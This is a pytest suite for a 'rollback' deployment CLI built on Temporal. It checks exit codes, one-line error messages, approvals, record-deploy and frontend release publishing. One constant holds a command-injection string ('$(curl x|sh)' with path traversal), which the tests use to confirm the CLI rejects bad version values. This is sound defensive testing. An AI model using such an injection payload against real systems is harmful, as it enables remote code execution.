"""The `rollback` CLI: exit codes, one-line errors, and the commands over real workflows."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
from pathlib import Path

import yaml

from rollback.models import Phase
from tests.conftest import make_stack, write_config
from tests.helpers import front_version, orchestrator, status_when

ROLLBACK = str(Path(sys.executable).parent / "rollback")


async def cli(client, task_queue: str, *args: str, config: Path | None = None) -> subprocess.CompletedProcess:
    env = {**os.environ, "TEMPORAL_ADDRESS": client.service_client.config.target_host,
           "TEMPORAL_NAMESPACE": client.namespace, "ROLLBACK_TASK_QUEUE": task_queue}
    if config:
        env["ROLLBACK_CONFIG"] = str(config)
    return await asyncio.to_thread(subprocess.run, [ROLLBACK, *args], capture_output=True, text=True, env=env, timeout=120)


def one_line_error(done: subprocess.CompletedProcess) -> str:
    assert done.returncode != 0
    assert "Traceback" not in done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1, done.stderr
    return lines[0]


async def test_start_wait_status_list(blue_green, tmp_path, client, task_queue, run_worker):
    blue_green.deploy("v2", "errors")
    await run_worker(write_config(blue_green, tmp_path))

    started = await cli(client, task_queue, "start", "-e", "demo", "-t", "backend", "--by", "cli-user",
                        "--reason", "bad v2", "--wait")

    assert started.returncode == 0, started.stderr
    workflow_id = started.stdout.splitlines()[0]
    assert workflow_id.startswith("rollback-demo-")
    assert started.stdout.strip().splitlines()[-1] == "succeeded"
    assert await front_version(blue_green.front_url) == "v1"
    shown = await cli(client, task_queue, "status", workflow_id)
    assert shown.returncode == 0 and "switch traffic to blue" in shown.stdout and "succeeded" in shown.stdout
    listed = await status_when_listed(client, task_queue, workflow_id)
    assert "succeeded" in listed
    refused = await cli(client, task_queue, "start", "-e", "atlantis", "-t", "backend")
    assert "environment: unknown environment 'atlantis'" in one_line_error(refused)


async def status_when_listed(client, task_queue: str, workflow_id: str) -> str:
    # Visibility is eventually consistent: poll the list until the rollback shows up.
    for _ in range(50):
        done = await cli(client, task_queue, "list", "-e", "demo")
        if workflow_id in done.stdout:
            return done.stdout
        await asyncio.sleep(0.2)
    raise AssertionError(f"{workflow_id} never listed")


async def test_approve_reject_cancel_through_the_cli(blue_green, tmp_path, client, task_queue, run_worker):
    blue_green.deploy("v2", "errors")
    await run_worker(write_config(blue_green, tmp_path, policy={"require_approval": True}))
    orch = orchestrator(client, task_queue)

    started = await cli(client, task_queue, "start", "-e", "demo", "-t", "backend")
    assert started.returncode == 0 and started.stdout.startswith("rollback-demo-"), started.stderr
    first = started.stdout.strip()
    await status_when(orch, first, lambda s: s.approval.decision == "pending")
    refused = await cli(client, task_queue, "start", "-e", "demo", "-t", "backend")
    assert first in one_line_error(refused)
    cancelled = await cli(client, task_queue, "cancel", first)
    assert cancelled.returncode == 0, cancelled.stderr
    final = await status_when(orch, first, lambda s: s.state == Phase.CANCELLED, what="cancelled")
    assert final.error == "cancelled by request"

    started = await cli(client, task_queue, "start", "-e", "demo", "-t", "backend")
    assert started.returncode == 0 and started.stdout.startswith("rollback-demo-"), started.stderr
    second = started.stdout.strip()
    await status_when(orch, second, lambda s: s.approval.decision == "pending")
    rejected = await cli(client, task_queue, "reject", second, "--by", "dave", "--comment", "not now")
    assert rejected.returncode == 0, rejected.stderr
    final = await status_when(orch, second, lambda s: s.state == Phase.REJECTED)
    assert final.approval.by == "dave"
    again = await cli(client, task_queue, "approve", second)
    assert "not waiting for approval" in one_line_error(again)
    assert await front_version(blue_green.front_url) == "v2"


async def test_bad_input_gives_one_line_and_exit_code(client, task_queue, tmp_path):
    bad_target = await cli(client, task_queue, "start", "-e", "demo", "-t", "backnd")
    assert "targets" in one_line_error(bad_target)
    bad_version = await cli(client, task_queue, "start", "-e", "demo", "-t", "backend", "--to-version", "v1")
    assert "TARGET=VERSION" in one_line_error(bad_version)
    unknown = await cli(client, task_queue, "status", "rollback-demo-nope")
    assert one_line_error(unknown).startswith("error: ")
    missing = await cli(client, task_queue, "unlock", "-e", "demo", "--force", config=tmp_path / "nope.yaml")
    assert "nope.yaml: file not found" in one_line_error(missing)
    nowhere = subprocess.run([ROLLBACK, "list"], capture_output=True, text=True, timeout=60,
                             env={**os.environ, "TEMPORAL_ADDRESS": "127.0.0.1:1"})
    assert "cannot reach Temporal at 127.0.0.1:1" in one_line_error(nowhere)


INJECTION = "--help; $(curl x|sh) ../../etc"


def cli_env(**extra: str) -> dict[str, str]:
    """The environment with nothing pointing at Temporal or a config unless given."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("TEMPORAL_", "ROLLBACK_"))}
    return {**env, "COLUMNS": "300", **extra}


def run_cli(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess:
    return subprocess.run([ROLLBACK, *args], capture_output=True, text=True, env=env, timeout=120)


def test_a_version_that_is_not_a_version_is_refused_before_anything_runs():
    # No Temporal at this address: the request must be refused before any connection.
    env = cli_env(TEMPORAL_ADDRESS="127.0.0.1:1")
    started = run_cli("start", "-e", "demo", "-t", "backend", "--to-version", f"backend={INJECTION}", env=env)
    line = one_line_error(started)
    assert line.startswith("error: to_version.backend: ") and "not a valid version" in line


def test_record_deploy_refuses_a_bad_version_and_records_nothing(blue_green, tmp_path):
    config = blue_green.write_config(tmp_path / "rollback.yaml")
    state = blue_green.state_dir / "demo.json"
    before = state.read_text()

    refused = run_cli("record-deploy", "-e", "demo", "-t", "backend", "--version", INJECTION,
                      env=cli_env(ROLLBACK_CONFIG=str(config)))

    line = one_line_error(refused)
    assert line.startswith("error: --version: ") and "not a valid version" in line
    assert state.read_text() == before


def test_record_deploy_says_when_nothing_is_known_good_yet(blue_green, tmp_path):
    # A fresh state directory and no seed: the first release recorded has no predecessor.
    raw = blue_green.config_dict(extra={"state_dir": str(tmp_path / "fresh-state")})
    del raw["environments"]["demo"]["targets"]["backend"]["versions"]
    config = tmp_path / "rollback.yaml"
    config.write_text(yaml.safe_dump(raw))
    env = cli_env(ROLLBACK_CONFIG=str(config))

    first = run_cli("record-deploy", "-e", "demo", "-t", "backend", "--version", "v1", env=env)
    assert first.returncode == 0, first.stderr
    assert first.stdout.strip() == "demo/backend: current v1, known-good none recorded yet"
    # What is not live is never recorded: the record and the front door would drift apart.
    early = one_line_error(run_cli("record-deploy", "-e", "demo", "-t", "backend", "--version", "v2", env=env))
    assert early == "error: not recorded: backend of 'demo' serves v1, not v2; record a deploy once it is live", early
    blue_green.deploy("v2")
    second = run_cli("record-deploy", "-e", "demo", "-t", "backend", "--version", "v2", env=env)
    assert second.stdout.strip() == "demo/backend: current v2, known-good v1"


def test_record_deploy_refuses_when_the_front_door_cannot_say_what_is_live(tmp_path):
    stack = make_stack(tmp_path / "stopped", "blue_green", ["blue", "green"])  # configured, never started
    config = tmp_path / "rollback.yaml"
    stack.write_config(config)
    line = one_line_error(run_cli("record-deploy", "-e", "demo", "-t", "backend", "--version", "v1",
                                  env=cli_env(ROLLBACK_CONFIG=str(config))))
    assert line.startswith(f"error: not recorded: backend of 'demo': the front door {stack.front_url}/version does not answer"), line


def test_help_offers_every_target_and_refuses_an_unknown_one():
    env = cli_env()
    shown = run_cli("start", "--help", env=env)
    assert shown.returncode == 0, shown.stderr
    assert "frontend, backend, database or full" in " ".join(shown.stdout.split()), shown.stdout
    # Refused by the CLI itself: nothing reaches Temporal (none is configured here).
    line = one_line_error(run_cli("start", "-e", "demo", "-t", "backnd", env=env))
    assert line.startswith("error: targets: unknown target 'backnd'; use frontend, backend, database or full"), line


async def test_address_and_namespace_options_override_the_environment(client, task_queue):
    real = client.service_client.config.target_host
    dead = cli_env(TEMPORAL_ADDRESS="127.0.0.1:1", TEMPORAL_NAMESPACE="no-such-namespace")
    listed = await asyncio.to_thread(run_cli, "--address", real, "--namespace", client.namespace, "list", env=dead)
    assert listed.returncode == 0, listed.stderr
    assert "environment" in listed.stdout

    live = cli_env(TEMPORAL_ADDRESS=real, TEMPORAL_NAMESPACE=client.namespace)
    elsewhere = await asyncio.to_thread(run_cli, "--address", "127.0.0.1:1", "list", env=live)
    assert "cannot reach Temporal at 127.0.0.1:1" in one_line_error(elsewhere)
    shown = run_cli("--help", env=live)
    assert "--address" in shown.stdout and "--namespace" in shown.stdout


def test_record_deploy_starts_from_the_configured_seed_of_any_target(blue_green, tmp_path):
    # The database's seed counts as the backend's does: its current revision becomes known-good.
    raw = blue_green.config_dict(extra={"state_dir": str(tmp_path / "fresh-state"), "environments": {"demo": {"targets": {
        "database": {"dsn_env": "DEMO_DATABASE_URL", "migrations": "migrations",
                     "versions": {"current": "0002", "known_good": "0001"}}}}}})
    config = tmp_path / "rollback.yaml"
    config.write_text(yaml.safe_dump(raw))

    done = run_cli("record-deploy", "-e", "demo", "-t", "database", "--version", "0003", env=cli_env(ROLLBACK_CONFIG=str(config)))

    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "demo/database: current 0003, known-good 0002"


async def test_watch_of_a_compensated_rollback_exits_1_and_usage_errors_exit_2(blue_green, tmp_path, client, task_queue,
                                                                               run_worker):
    blue_green.deploy("v2", "errors")
    blue_green.redeploy_colour("blue", "v1", fault="errors_after:10")  # fails once it takes traffic: compensated
    await run_worker(write_config(blue_green, tmp_path))
    started = await cli(client, task_queue, "start", "-e", "demo", "-t", "backend")
    assert started.returncode == 0, started.stderr
    workflow_id = started.stdout.strip()

    watched = await cli(client, task_queue, "watch", workflow_id)

    assert watched.returncode == 1, (watched.stdout, watched.stderr)
    assert "compensated" in watched.stdout, watched.stdout
    final = await status_when(orchestrator(client, task_queue), workflow_id, lambda s: s.state == Phase.COMPENSATED)
    assert final.error is not None
    for usage in (["start", "-e", "demo"], ["watch"], ["status", workflow_id, "--no-such-option"], ["no-such-command"]):
        wrong = await cli(client, task_queue, *usage)
        assert wrong.returncode == 2 and "Traceback" not in wrong.stderr, (usage, wrong.returncode, wrong.stderr)


def test_a_pipeline_writes_publishes_and_lists_frontend_releases(tmp_path):
    config = tmp_path / "rollback.yaml"
    config.write_text(yaml.safe_dump({"state_dir": str(tmp_path / "state"), "environments": {"shop": {"targets": {"frontend": {
        "store": {"kind": "directory", "root": "site"}, "front_url": "http://127.0.0.1:1"}}}}}))
    env = cli_env(ROLLBACK_CONFIG=str(config))
    build = tmp_path / "dist" / "v1.4.0"
    (build / "assets").mkdir(parents=True)
    (build / "index.html").write_text("<script type=module src=/assets/app.1a2b3c.js></script>")
    (build / "assets" / "app.1a2b3c.js").write_text("fetch('/api/items')")

    written = run_cli("release", "manifest", str(build), "--build", "abc123", "--api", "GET /api/items", "--backend-min", "v2.0.0",
                      env=env)
    assert written.returncode == 0, written.stderr
    assert written.stdout.strip().endswith("release v1.4.0, build abc123, 2 files")
    published = run_cli("release", "publish", str(build), "-e", "shop", env=env)
    assert published.returncode == 0 and "published v1.4.0 (build abc123, 2 files) to shop" in published.stdout, published.stderr
    listed = run_cli("release", "list", "-e", "shop", "--json", env=env)
    assert [(r["version"], r["build"], r["api"], r["live"]) for r in json.loads(listed.stdout)] == [
        ("v1.4.0", "abc123", ["GET /api/items"], False)]

    (build / "assets" / "app.1a2b3c.js").write_text("tampered after the manifest")
    line = one_line_error(run_cli("release", "publish", str(build), "-e", "shop", env=env))
    assert line.startswith("error: release v1.4.0: assets/app.1a2b3c.js has sha256"), line
    assert one_line_error(run_cli("release", "manifest", str(build), "--build", "b", "--api", "FETCH /x", env=env)).startswith(
        "error: api: ")
    assert one_line_error(run_cli("release", "list", "-e", "nowhere", env=env)) == "error: environment 'nowhere' has no frontend target"


def test_the_origin_nginx_conf_and_the_vcl_printed_for_an_environment_are_valid(tmp_path):
    config = tmp_path / "rollback.yaml"
    config.write_text(yaml.safe_dump({"state_dir": str(tmp_path / "state"), "environments": {"shop": {"targets": {"frontend": {
        "store": {"kind": "directory", "root": "site"}, "front_url": "http://127.0.0.1:1"}}}}}))
    env = cli_env(ROLLBACK_CONFIG=str(config))
    printed = run_cli("release", "nginx-conf", "-e", "shop", "--listen", "127.0.0.1:18087", "--api-upstream", "127.0.0.1:8080", env=env)
    assert printed.returncode == 0, printed.stderr
    assert f"root {tmp_path / 'site'};" in printed.stdout
    nginx = tmp_path / "nginx"
    (nginx / "logs").mkdir(parents=True)
    (nginx / "nginx.conf").write_text(f"pid {nginx}/nginx.pid; error_log {nginx}/error.log; events {{}}\n"
                                      f"http {{ access_log off; {printed.stdout} }}\n")
    tested = subprocess.run(["/usr/sbin/nginx", "-t", "-q", "-p", f"{nginx}/", "-c", str(nginx / "nginx.conf"), "-e",
                             str(nginx / "error.log")], capture_output=True, text=True, timeout=30)
    assert tested.returncode == 0, tested.stderr

    vcl = run_cli("release", "vcl", "--origin", "127.0.0.1:18087", "--purger", "10.0.0.0/8", env=env)
    assert vcl.returncode == 0, vcl.stderr
    (tmp_path / "front.vcl").write_text(vcl.stdout)
    # -j none: as root, varnishd would read the file as user vcache, who cannot enter a private tmp dir.
    compiled = subprocess.run(["/usr/sbin/varnishd", "-C", "-j", "none", "-n", str(tmp_path / "varnish"), "-f", str(tmp_path / "front.vcl")],
                              capture_output=True, text=True, timeout=60)
    assert compiled.returncode == 0, compiled.stderr[-2000:]
    assert one_line_error(run_cli("release", "vcl", "--origin", "nowhere", env=env)) == "error: --origin: 'nowhere' is not host:port"
